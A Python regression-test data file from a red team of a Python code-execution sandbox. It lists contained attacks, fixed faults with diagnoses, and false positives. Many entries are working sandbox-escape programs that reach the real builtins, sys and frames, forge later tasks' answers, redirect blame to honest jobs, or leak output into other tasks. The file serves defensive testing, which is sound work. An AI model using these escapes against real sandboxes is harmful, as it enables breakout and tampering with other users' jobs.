"""Second red team of the executor (issue 12), after the first round's 30 faults were fixed.

Plain data, like ``redteam_corpus.py``; ``test_redteam2.py`` runs it. Written from a reading of
``azr_env/executor/`` as it stands after the fixes, aimed at the new mechanisms: the ownership rule
for private attributes, the copies of library state, the ``match`` stand-ins, the ctypes set-order
patch, trusted versus strict generated code, ``locals()``/``vars()``, survivor detection, the
process-wide memos, and the parent's handling of what workers send.

``ATTACKS`` and ``POISONS`` were tried and found contained; they stay as regression tests.
``FAULTS`` got through: each has a minimal reproducer, its severity, a ``kind`` that tells the test
how to check it, and the diagnosis of the root cause (file:function), as the red team wrote it
against the code of the time. All are fixed at the root; their tests assert what a user relies on.
``FALSE_POSITIVES`` are harmless programs answered differently from plain Python.

Severity, highest first: os, leak, escape (a handle on the real builtins, sys, frames or the
worker), poison (another task computes or prints something else), nondeterminism (accepted),
api (a method raises or a worker crashes), false_positive.
"""
from __future__ import annotations

import textwrap


def _p(source: str) -> str:
    return textwrap.dedent(source).strip("\n") + "\n"


# -- building blocks ---------------------------------------------------------------------------------
# The real, unguarded object.__getattribute__, with no import. `K.__getattribute__ += x` compiles to
# LOAD_ATTR then STORE_ATTR on `_write_(K)`: the screen rewrites only Load-context attributes, so the
# load of the guarded name goes through no guard (K is the program's own class, so _write_ lets it
# through), and x.__radd__ receives object's slot wrapper, which reads any attribute of any object.
GRAB_GETATTRIBUTE = _p("""
    box = []
    class Grab:
        def __radd__(self, other):
            box.append(other)
            return other          # the store puts the same slot wrapper back: K is unchanged
    class K:
        pass
    K.__getattribute__ += Grab()
    ga = box[0]
""")

# From the real object.__getattribute__ to the runner's globals: the real builtins (len.__self__ has
# no audit event), the real sys, and a frame taken by the guards' own code (the audit hook lets
# sys._getframe through when its caller is not the program's file: here checked_load, reading a
# property whose getter is sys._getframe). frame.f_back and frame.f_globals raise no audit event.
RUNNER_GLOBALS = GRAB_GETATTRIBUTE + _p("""
    class Here:
        def __index__(self):
            return 0
    def worker_globals():
        bm = ga(len, '__self__')
        sys = ga(bm, '__import__')('sys')
        Here.frame = property(ga(sys, '_getframe'))
        fr = getattr(Here(), 'frame')
        while 'runner_main' not in ga(fr, 'f_globals'):
            fr = ga(fr, 'f_back')
        return bm, ga(fr, 'f_globals')
""")


def finalizer_poison(extra_cycles: int) -> str:
    """A task that leaves a garbage cycle with a finalizer behind, plus ``extra_cycles`` one-list
    cycles to tune the number of live objects (see the fault ``finalizer_hides_behind_gc_untracking``)."""
    return _p(f"""
        class D:
            def __init__(self):
                self.me = self
            def __del__(self, p=print):
                p('LEAK')
        def f(a):
            junk = [[] for _ in range(3000)]    # several automatic collections: they untrack tuples
            del junk                            # (job records, code constants) counted at baseline
            for _ in range({extra_cycles}):
                z = []
                z.append(z)
            D()
            return a
    """)


FINALIZER_CHECK = "def f(a):\n    print('clean')\n    return len([[i] for i in range(2000)])\n"

# -- contained: every layer on --------------------------------------------------------------------------
# (name, program, inputs, expect): "refused" (status is not ok), "contained" (any status, no effect).
ATTACKS: list[tuple[str, str, str, str]] = [
    ("match_args_metaclass_changes_between_reads",
     _p("""
        class M(type):
            n = 0
            @property
            def __match_args__(cls):
                M.n += 1
                return ('x',) if M.n == 1 else ('__self__',)
        class C(metaclass=M):
            pass
        def f(a):
            o = C()
            o.x = len
            match o:
                case C(v):
                    return v is len
     """), "0", "contained"),
    ("match_args_private_attribute_of_library_object",
     _p("""
        import typing
        class Meta(type):
            def __instancecheck__(cls, obj):
                return True
        class C(metaclass=Meta):
            __match_args__ = ('_evaluate',)
        def f(a):
            match typing.ForwardRef('x'):
                case C(ev):
                    return ev
     """), "0", "refused"),
    ("locals_depth_reaches_into_the_runner", "def f(a):\n    return sorted(locals(_depth=3))\n", "0", "refused"),
    ("vars_called_from_copys_frame",
     _p("""
        import copy
        class R:
            def __reduce_ex__(self, p):
                return (vars, ())
        def f(a):
            return copy.copy(R())
     """), "0", "refused"),
    ("class_assignment_to_the_guards_attrgetter",
     _p("""
        import operator
        class X:
            __slots__ = ('_chains',)
        def f(a):
            x = X()
            x._chains = (('__self__',),)
            x.__class__ = type(operator.attrgetter('real'))
            return x(len)
     """), "0", "refused"),
    ("namedtuple_field_name_str_subclass",
     _p("""
        from collections import namedtuple
        class S(str):
            def isidentifier(self):
                return True
        def f(a):
            return namedtuple('P', [S('x=__import__("os")')])
     """), "0", "refused"),
    ("dataclass_annotation_key_str_subclass",
     _p("""
        from dataclasses import dataclass
        class S(str):
            def isidentifier(self):
                return True
        class C:
            pass
        C.__annotations__ = {S('x=1'): int}
        def f(a):
            return dataclass(C)
     """), "0", "refused"),
    ("get_type_hints_with_empty_globals",
     "import typing\ndef g(x: 'getattr(len, \"__self__\")'):\n    pass\ndef f(a):\n    return typing.get_type_hints(g, {}, {})\n",
     "0", "refused"),
    ("format_spec_nested_field", "def f(a):\n    return '{0:{1.__self__}}'.format(1, len)\n", "0", "refused"),
    ("set_iterator_generator_frame", "def f(a):\n    return getattr(iter({'a', 'b'}), 'gi_' + 'frame')\n", "0", "refused"),
    ("super_private_method_of_library_base",
     _p("""
        import string
        class T(string.Template):
            def m(self):
                return super()._invalid
        def f(a):
            return T('x').m()
     """), "0", "refused"),
    ("checked_getattribute_of_own_class", "class K:\n    pass\ndef f(a):\n    return K.__getattribute__(len, '__self__')\n",
     "0", "refused"),
    ("object_setattr_on_frozen_function",
     "import heapq\ndef f(a):\n    object.__setattr__(heapq.merge, '__kwdefaults__', {'key': None, 'reverse': True})\n    return a\n",
     "0", "refused"),
    ("dataclass_in_the_builtins_module_with_honest_fields",
     "from dataclasses import dataclass\nclass C:\n    x: int = 0\nC.__module__ = 'builtins'\nC = dataclass(C)\ndef f(a):\n    return repr(C(3))\n",
     "0", "contained"),
]

# (name, poison, check): the check prints what a fresh executor prints, whatever ran before it.
POISONS: list[tuple[str, str, str]] = [
    ("set_subclass_made_during_validation",
     "class S(set):\n    pass\nKEEP = S({'a', 'b'})\ndef f(a):\n    return sorted(KEEP)\n",
     "def f(a):\n    return sorted(list({'x', 'y', 'z'}))\n"),
    ("match_stand_in_cache",
     "class P:\n    __match_args__ = ('v',)\n    v = 1\ndef f(a):\n    match P():\n        case P(v):\n            return v\n",
     "class P:\n    __match_args__ = ('w',)\n    w = 2\ndef f(a):\n    match P():\n        case P(v):\n            return v\n"),
    ("suspended_generator_in_own_cycle",
     "def gen(box):\n    try:\n        yield 1\n    finally:\n        print('LATE')\ndef f(a):\n    box = []\n    g = gen(box)\n    box.append(g)\n    next(g)\n    return a\n",
     "def f(a):\n    print('clean')\n    return len([[i] for i in range(2000)])\n"),
]


# -- faults ---------------------------------------------------------------------------------------------
FAULTS: list[dict] = [
    # ---- escape: with every layer on, program code holds the real builtins, sys, frames -------------
    dict(
        name="augmented_assignment_reads_guarded_attributes", severity="escape", kind="escape",
        program=GRAB_GETATTRIBUTE + _p("""
            def f(a):
                return ga(len, '__self__').__name__      # the real builtins module
        """),
        diagnosis="screen.py:_SandboxPolicy.visit_Attribute rewrites guarded and private attribute loads only in "
                  "Load context, and _SandboxPolicy sets visit_AugAssign = _plain (RestrictedPython's own "
                  "visit_AugAssign refuses `a.b += c` for exactly this reason). `a.b += c` compiles to LOAD_ATTR "
                  "b on `_write_(a)` before the store, so for any object the program made (its own class K, an "
                  "instance of a library class) a guarded name (__getattribute__, __setattr__, __dict__, "
                  "__self__) or a library-private name is read with no guard and handed to c.__radd__. On a "
                  "class, K.__getattribute__ is object's unbound slot wrapper: the unguarded getattr. No import "
                  "is needed, so this runs in the persistent runner. Same hole: `fr._evaluate += g` on a "
                  "typing.ForwardRef the program made gives the private method that evaluates with the real "
                  "builtins.",
    ),
    dict(
        name="copy_of_a_bound_method_calls_the_real_getattr", severity="escape", kind="escape",
        program=_p("""
            import copy
            class A:
                def m(self):
                    pass
            def g():
                pass
            def f(a):
                g.__name__ = '__self__'
                bm = copy.copy(type(A().m)(g, len))      # a method whose __self__ is len, named '__self__'
                return bm.__name__
        """),
        diagnosis="The guards assume that the C functions which look `getattr` up in the *calling frame's* "
                  "builtins (method.__reduce__, builtin_function_or_method.__reduce__ ...) are reached only by "
                  "naming __reduce__/__reduce_ex__ (policy.REFUSED_ATTRIBUTES). But copy.copy calls "
                  "cls.__reduce_ex__(4) itself, from copy's frame, whose builtins are the real ones: for a "
                  "bound method it gets (real getattr, (method.__self__, method.__func__.__name__)) and calls "
                  "it in copy._reconstruct. The program builds the method with type(A().m)(g, target) and "
                  "names g as it likes, so copy reads any attribute of any object unguarded. The root is in "
                  "_guards.py: library frames run with the real builtins module (any C helper that consults "
                  "frame builtins hands it out).",
    ),
    dict(
        name="singledispatch_register_evaluates_with_the_real_builtins", severity="escape", kind="escape",
        program=_p("""
            import functools
            def f(a):
                def h(x: '{}[getattr]'):
                    pass
                h.__wrapped__ = 0                        # get_type_hints takes its globals from __wrapped__
                try:
                    functools.singledispatch(print).register(h)
                except KeyError as e:
                    g = e.args[0]                        # the real builtins.getattr
                return g(g(len, '__self__'), '__name__')
        """),
        diagnosis="_guards.py:_overrides replaces get_type_hints only in the *view* of typing; functools' "
                  "singledispatch.register runs `from typing import get_type_hints` inside functools (through "
                  "the real __import__ of functools' frame) and calls the real one. It takes globalns from "
                  "getattr(obj.__wrapped__..., '__globals__', {}): a __wrapped__ without __globals__ gives {}, "
                  "and eval() with globals lacking __builtins__ inherits those of its calling frame (typing's: "
                  "the real ones). The annotation passes the audit hook's strict 'compile' screen "
                  "(generated_source_problem checks names only; getattr is a plain name), raises "
                  "KeyError(real getattr) and the program catches it.",
    ),
    dict(
        name="dataclass_base_field_name_reaches_trusted_generated_code", severity="escape", kind="escape",
        program=_p("""
            from dataclasses import dataclass, fields
            keep = []
            @dataclass
            class B:
                x: int = 0
            fields(B)[0].name = "x,keep.append(len.__self__)"   # a Field the program owns
            @dataclass(init=False, repr=False)
            class C(B):                                          # its __eq__ source names B's fields
                pass
            def f(a):
                C() == C()
                return keep[0].__name__
        """),
        diagnosis="_guards.py:_checked_dataclass checks only the keys of the decorated class's own "
                  "__annotations__; dataclasses._process_class also takes every field of the base dataclasses "
                  "from their __dataclass_fields__ and writes Field.name into the source it generates "
                  "(_tuple_str for __eq__/__lt__/__hash__, _init_fn, _repr_fn). Field objects are program-owned "
                  "(made during the task), so their name is writable. The source is compiled by "
                  "dataclasses._create_fn, which _guards.py:_TRUSTED_GENERATORS exempts from the strict screen "
                  "(generated_code_problem(strict=False) refuses only REFUSED_NAMES/ATTRIBUTES, not __self__ "
                  "or private names), and the generated code's attribute loads are never rewritten: "
                  "len.__self__ is the real builtins module. The trust must rest on what the text contains, "
                  "not on which function compiles it, or every name reaching _create_fn must be checked.",
    ),
    dict(
        name="match_stand_in_checks_are_program_writable", severity="escape", kind="escape",
        program=_p("""
            def tamper(env):
                env['_azr_match_0']._azr_keywords = ()   # the stand-in the screen hoisted into a local
                return len
            def f(a):
                match tamper(locals()):
                    case object(__self__=bm):
                        return bm.__name__
        """),
        diagnosis="_guards.py:match_class builds the stand-in class during the task, so it is program-owned, "
                  "and keeps what _MatchStandIn.__instancecheck__ checks (_azr_keywords, _azr_real) as plain "
                  "class attributes that write_guard lets the program change. screen.py:_SandboxPolicy.visit_Match "
                  "hoists it into an ordinary local `_azr_match_N` that locals() hands out (the reserved prefix "
                  "is refused for names, not for string keys or attribute names), and visit_MatchClass refuses "
                  "only REFUSED_ATTRIBUTES statically, leaving guarded and private keyword names to the "
                  "stand-in. With _azr_keywords emptied, MATCH_CLASS reads __self__ (or __getattribute__, "
                  "__dict__ ...) of any subject in C, unguarded. No import: the persistent runner.",
    ),
    dict(
        name="class_body_locals_shadow_the_screens_helpers", severity="escape", kind="escape",
        program=_p("""
            class C:
                locals()['_match_class_'] = lambda real, keywords: real   # LOAD_NAME finds this first
                match len:
                    case object(__self__=bm):
                        name = bm.__name__
            def f(a):
                return C.name
        """),
        diagnosis="The screen's rewrites call `_getattr_`, `_write_` and `_match_class_` by name "
                  "(screen.py:_SandboxPolicy.visit_Attribute, visit_Match). In a class body these are LOAD_NAME "
                  "lookups, which search the class namespace before the module's; _guards.py:guarded_locals "
                  "allows locals() in a class body (f_locals is not f_globals there) and returns that namespace, "
                  "writable, while policy.REFUSED_NAMES only stops the program from *naming* the helpers. A class "
                  "body that stores its own _match_class_ runs every later match in it on the real class; "
                  "_getattr_ and _write_ can be replaced the same way (writes to frozen functions and classes "
                  "are still caught by the audit hook, writes to frozen instances are not).",
    ),
    # ---- poison: another task computes or prints something else -------------------------------------
    dict(
        name="escaped_runner_forges_every_later_answer", severity="poison", kind="poison",
        poison=RUNNER_GLOBALS + _p("""
            def f(a):
                bm, W = worker_globals()
                W['_render'] = lambda value: "'forged'"
                W['_survivors'] = lambda ours=(): None
                return a
        """),
        check="def f(a):\n    return a + 1\n",
        diagnosis="Consequence of augmented_assignment_reads_guarded_attributes, in the persistent runner with "
                  "no import at all: the runner's globals (_render, _survivors, run_job, the blame slot) are "
                  "writable by the program, so every later job of that runner (validate, check_answers "
                  "included) gets the answer the program chose, or leaks its hidden inputs to the program's "
                  "later jobs. Fix the escape; keep the runner's machinery out of reach.",
    ),
    dict(
        name="finalizer_hides_behind_gc_untracking", severity="poison", kind="poison_search",
        programs=[finalizer_poison(k) for k in range(0, 40)],
        check=FINALIZER_CHECK,
        diagnosis="_worker.py:_run_job collects and looks for survivors only when len(gc.get_objects()) "
                  "differs from the count taken before the program ran. A collection triggered during the task "
                  "untracks tuples that were counted at baseline (the chunk's job records from marshal.loads, "
                  "exec_tokens, the program's own co_consts tuples): the count drops without anything being "
                  "freed, so a program that leaves exactly that many objects behind (tuned with one-list "
                  "cycles; a proposer can send the 40 variants) ends with the same count. Nothing is "
                  "collected, _survivors never runs, and its garbage cycle's __del__ runs at the next automatic "
                  "collection inside a later honest task: 'LEAK' lands in that task's stdout (locals(_depth=k) "
                  "there would also reach that task's own frames). Compare object identities, or always "
                  "collect and check.",
    ),
    dict(
        name="one_shot_child_redirects_the_runners_blame", severity="poison", kind="slot_mixup",
        spin="def f(a):\n    while True:\n        try:\n            while True:\n                pass\n        except BaseException:\n            pass\n",
        # Python layers off (the OS layer must hold on its own); with every layer on the same code runs
        # after any escape above (checked with augmented_assignment_reads_guarded_attributes).
        program=_p("""
            import struct, sys, time
            def f(a):
                fr = sys._getframe(0)
                while not ('self' in fr.f_locals and hasattr(fr.f_locals['self'], 'runner')):
                    fr = fr.f_back                           # up to Zygote._fork_child, as forked
                runner = fr.f_locals['self'].runner
                victim = runner.jobs[1][0]                   # the job queued behind the one running now
                while True:
                    runner.slot[:8] = struct.pack('<q', victim)   # read by the zygote to blame a dead runner's job
                    time.sleep(0.001)
        """),
        diagnosis="_worker.py:Zygote._fork_runner makes the runner's blame slot an anonymous MAP_SHARED mmap in "
                  "the zygote; every one-shot child forked afterwards (_fork_child) inherits that mapping "
                  "writable, and _runner_died trusts it to name the job a killed runner was running. A task "
                  "that imports a stateful module (so it runs 'in a process of its own') and holds the real sys "
                  "(Python layers off here; with every layer on, through any escape above) keeps writing the id of an honest job queued behind a spinning one: when the zygote kills the "
                  "runner for time, the honest job is reported as 'timeout' and the spinner runs again. The "
                  "seccomp row of the README counts only the pipes as what a confined process can still touch.",
    ),
    dict(
        name="huge_violation_message_loses_neighbours_results", severity="poison", kind="mixup",
        # (A private name the library does not define is no longer a refusal but an AttributeError,
        # as in plain Python; a refused dataclass field name still embeds the program's text.)
        program=("from dataclasses import make_dataclass\ndef f(n):\n    try:\n"
                 "        make_dataclass('C', ['x' * n + '-'])\n    except BaseException:\n        pass\n    return 1\n"),
        inputs="2000000",
        diagnosis="A refusal's message embeds the name the program chose with no cap (_guards.py:checked_load "
                  "and check_access: f\"private attribute {name!r} ...\"), and _worker.py:_run_job copies "
                  "task.violation into the answer uncut (_short caps other errors at 300 characters). The "
                  "runner's frame also carries the answers of the jobs that ran before it in the same 20 ms; "
                  "pool.py:WorkerPool._read kills the whole worker when a frame exceeds _max_frame, and "
                  "_on_death, after two deaths, blames inflight.pop(0): the oldest job, not the one that sent "
                  "the frame. Honest jobs queued before the culprit come back as 'the sandbox worker died "
                  "repeatedly on this job' (16 restarts for one culprit in a batch of 11).",
    ),
    # ---- accepted nondeterminism ------------------------------------------------------------------
    dict(
        name="str_hash_bit_passes_validation_half_the_time", severity="nondeterminism", kind="nondet_validate",
        programs=[f"def f(a):\n    return hash('k{k}') % 2\n" for k in range(20)],
        diagnosis="hash() of a str exposes the hash seed directly; validation compares J = 2 seeds "
                  "(executor.py:Executor.validate_batch, determinism_runs) and the set-order reversal "
                  "(_setorder.py) does not touch hash(). A one-bit function of it agrees under both seeds half "
                  "the time: about 10 of 20 such programs are accepted, then print a different value under the "
                  "next executor's seeds (the README says hash() is caught). Same for hash(float('nan')) and "
                  "id()-derived bits above the page size.",
    ),
    dict(
        name="set_pop_order_passes_validation_half_the_time", severity="nondeterminism", kind="nondet_validate",
        programs=[f"def f(a):\n    s = {{'x{k}', 'y{k}'}}\n    out = []\n    while s:\n        out.append(s.pop())\n    return out\n"
                  for k in range(20)],
        diagnosis="_setorder.py reverses only iteration through the tp_iter slot; set.pop(), dict.fromkeys(s), "
                  "s.__iter__() (the slot wrapper keeps the original C function) and set.copy walk the hash "
                  "table directly, so the repeated call sees the same order and only the second seed can catch "
                  "it. The README and the module docstring list pop and fromkeys as left to the seeds (not "
                  "s.__iter__()); it is listed here because `while s: s.pop()` is an everyday idiom and the "
                  "outcome is accepted nondeterminism all the same: about 10 of 20 accepted.",
    ),
    # ---- api: a method raises, or a worker crashes ------------------------------------------------
    dict(
        name="set_order_callback_at_the_recursion_limit_segfaults", severity="api", kind="api_validate",
        program=_p("""
            def deep(n, s):
                if n == 0:
                    for x in s:
                        return x
                return deep(n - 1, s)
            def f(a):
                s = {'a', 'b', 'c'}
                for n in range(1100, 900, -1):
                    try:
                        deep(n, s)
                    except (RecursionError, TypeError):
                        pass
                return 1
        """),
        expected="1",
        diagnosis="_setorder.py:SetOrder.install puts a ctypes PYFUNCTYPE callback (_make_iter's reversed_iter) "
                  "in the tp_iter slot of set and frozenset for the whole of validation's repeated-call job. "
                  "When no recursion headroom is left, calling the callback raises RecursionError before its "
                  "try block runs; ctypes reports it as unraisable and returns its *uninitialised* result slot "
                  "to PyObject_GetIter: a stale pointer (seen: 'iter() returned non-iterator of type frame', "
                  "after which it is decref'd) or a crash. The runner dies of SIGSEGV; a deterministic program "
                  "is judged nondeterministic. Memory safety of the runner is at the program's mercy; a slot "
                  "function must be C, or the patch must never call Python at the recursion limit.",
    ),
    dict(
        name="astral_output_overflows_the_frame_budget", severity="api", kind="api_validate",
        program="def f(n):\n    return '\\U0001F600' * n\n",
        inputs="9990",
        expected=repr("\U0001F600" * 9990),
        diagnosis="pool.py:WorkerPool._max_frame budgets 6 bytes per output character ('\\uXXXX'), but the "
                  "worker's JSON (_worker.py:_answer_json, encode_basestring_ascii) writes a character outside "
                  "the BMP as a surrogate pair, 12 bytes. A harmless output of 9,990 emoji (under "
                  "max_output_chars=10,000) from validation's two-call run overflows the frame: the parent "
                  "kills the worker three times and validate answers NONDETERMINISTIC ('the sandbox worker "
                  "died repeatedly'). A lone job, or one with few neighbours in flight, is enough.",
    ),
    dict(
        name="process_wide_memos_race_between_threads", severity="api", kind="api_threads",
        diagnosis="cache.py:ByteLRU.get does `self._items.get(key)` then `self._items.move_to_end(key)` with no "
                  "lock, and the memos are process-wide (screen.py: _ARGUMENT_TREES, _LITERAL_ARGUMENTS, "
                  "_SCREENED, _COMPILED). Another thread's clear_caches() (public), or a put that evicts the key, "
                  "can remove it in between: parse_arguments (and Executor.run through literal_arguments and "
                  "the screening memo) raises KeyError. Reproduced with one thread screening and one calling "
                  "clear_caches(), at the default switch interval; two executors or envs driven from threads "
                  "race the same way through evictions. Executor has its own RLock, which suggests threads are "
                  "supported; the shared memos are not covered by it.",
    ),
    dict(
        name="unvalidated_output_caps_raise_at_first_use", severity="api", kind="api_config",
        diagnosis="executor.py:Executor.__init__ validates timeout, memory_mb, workers ... but not "
                  "max_output_chars or max_stdout_chars: None, '4k' or float('inf') are accepted and the first "
                  "run raises TypeError/ValueError/OverflowError from int() in _ensure_pool (a negative cap "
                  "makes every output output_too_large). Same class as the first round's "
                  "infinite_timeout_accepted_then_raises.",
    ),
]

# Harmless programs answered differently from plain Python. (name, program, inputs, diagnosis); all
# run through validate. (Programs that depend on __name__ == '__main__' are left out: the README
# documents that a main block's body never runs.)
FALSE_POSITIVES: list[tuple[str, str, str, str]] = [
    ("hasattr_private_name_on_a_library_value",
     "def f(xs):\n    return [hasattr(x, '_fields') for x in xs]\n", "[(1, 2), [3], 'a']",
     "_guards.py:checked_load refuses a private name that no class of the program defines *before* looking "
     "it up, so probing a tuple for namedtuple's _fields (a common duck-typing idiom), or "
     "getattr(x, '_cache', None) on an int, is a violation instead of False/None. An attribute that does "
     "not exist reveals nothing: refuse only a private name the library actually defines."),
    ("library_namedtuple_underscore_methods",
     "from decimal import Decimal\ndef f(s):\n    return Decimal(s).as_tuple()._asdict()\n", "'1.25'",
     "_guards.py:_private_ok allows namedtuple's public-by-convention methods only on the program's own "
     "classes; the standard library's namedtuples (decimal.DecimalTuple, functools' CacheInfo from "
     "cache_info(), statistics.LinearRegression) are library classes, so _asdict/_replace/_fields are "
     "refused there."),
    ("object_getattribute_inside_an_override",
     _p("""
        class Logged:
            def __init__(self):
                self.x = 1
            def __getattribute__(self, name):
                return object.__getattribute__(self, name)
        def f(a):
            return Logged().x + a
     """), "1",
     "_guards.py:_guarded_load replaces __getattribute__ with checked_getattribute, which reads through "
     "checked_load, i.e. the real getattr, i.e. the type's own __getattribute__: inside an override, the "
     "canonical `object.__getattribute__(self, name)` calls the override again, RecursionError (the same for "
     "`type.__getattribute__(cls, name)` in a metaclass). The check must read with the slot it wraps."),
    ("super_getattribute_inside_an_override",
     _p("""
        class Logged:
            def __init__(self):
                self.x = 1
            def __getattribute__(self, name):
                return super().__getattribute__(name)
        def f(a):
            return Logged().x + a
     """), "1",
     "Same root as object_getattribute_inside_an_override: for `super().__getattribute__`, checked_getattribute "
     "takes the super object itself as the owner (obj) instead of the instance it is bound to, so instance "
     "attributes are looked up on the super object: AttributeError \"'super' object has no attribute 'x'\"."),
    ("set_of_frozen_dataclass_points",
     _p("""
        from dataclasses import dataclass
        @dataclass(frozen=True)
        class Point:
            x: int
            y: int
        def f(pts):
            return [(p.x, p.y) for p in {Point(x, y) for x, y in pts}]
     """), "[(3, 1), (1, 2), (2, 9), (0, 0)]",
     "_setorder.py:_order_free leaves unreversed only exact int/float/... and flat tuples of them; a set of "
     "objects whose hash is seed-independent (frozen dataclasses and namedtuples of ints, nested tuples, "
     "frozensets of ints, classes hashing an int) iterates in one order in plain Python under every seed, "
     "but is reversed in validation's repeated call, so a deterministic program is judged "
     "NONDETERMINISTIC."),
    ("set_of_namedtuples",
     "from collections import namedtuple\nP = namedtuple('P', 'x y')\ndef f(pts):\n    return [tuple(p) for p in {P(*q) for q in pts}]\n",
     "[(3, 1), (1, 2), (2, 9), (0, 0)]", "Same as set_of_frozen_dataclass_points (a tuple subclass)."),
    ("set_of_edges_as_nested_tuples",
     "def f(n):\n    edges = {((i, i + 1), (i + 1, i + 2)) for i in range(n)}\n    return [e[0][0] for e in edges]\n", "5",
     "Same as set_of_frozen_dataclass_points (tuples of tuples of ints)."),
    ("set_of_frozensets",
     "def f(n):\n    return [len(s) for s in {frozenset(range(i)) for i in range(n)}]\n", "6",
     "Same as set_of_frozen_dataclass_points (frozensets of ints)."),
    ("set_of_objects_hashing_an_int",
     _p("""
        class Node:
            def __init__(self, v):
                self.v = v
            def __hash__(self):
                return self.v
            def __eq__(self, o):
                return self.v == o.v
        def f(vals):
            return [n.v for n in {Node(v) for v in vals}]
     """), "[5, 3, 9, 1]", "Same as set_of_frozen_dataclass_points (a program class with an int hash)."),
    ("match_positional_on_a_str_subclass",
     "class Tag(str):\n    pass\ndef f(a):\n    match Tag('hi'):\n        case Tag(x):\n            return x\n", "0",
     "_guards.py:match_class returns the real class only for the exact builtins in _MATCH_SELF; a subclass of "
     "str/int/dict... inherits Py_TPFLAGS_MATCH_SELF (one positional sub-pattern matches the subject), but "
     "its stand-in has no such flag and no __match_args__: TypeError 'Tag() accepts 0 positional "
     "sub-patterns'. Same for collections.OrderedDict, Counter, defaultdict, IntEnum members ..."),
    ("match_positional_on_ordered_dict",
     "from collections import OrderedDict\ndef f(a):\n    match OrderedDict(a=1):\n        case OrderedDict(x):\n            return dict(x)\n",
     "0", "Same as match_positional_on_a_str_subclass, with a standard-library subclass of dict."),
    ("match_class_of_an_unreached_case",
     "def f(cmd):\n    match cmd:\n        case 'quit':\n            return 0\n        case Move(x, y):\n            return x + y\n",
     "'quit'",
     "screen.py:_SandboxPolicy.visit_Match hoists every case's class expression into assignments *before* "
     "the match statement, so it is evaluated eagerly, before the subject and for cases never reached: a name "
     "that only a later case needs (or that does not exist on this path) raises NameError. The stand-in "
     "assignments also add `_azr_match_N` names to the enclosing namespace (a class body's attributes)."),
    ("match_value_pattern_with_a_private_name",
     "class S:\n    _IDLE = 0\n    RUN = 1\ndef f(a):\n    match a:\n        case S._IDLE:\n            return 'idle'\n        case S.RUN:\n            return 'run'\n",
     "0",
     "screen.py:_SandboxPolicy.visit_Attribute turns the private load in the value pattern `case S._IDLE:` into "
     "a call of _getattr_, which a pattern may not contain: 'patterns may only match literals and attribute "
     "lookups'. The program's own private class constant is refused."),
]
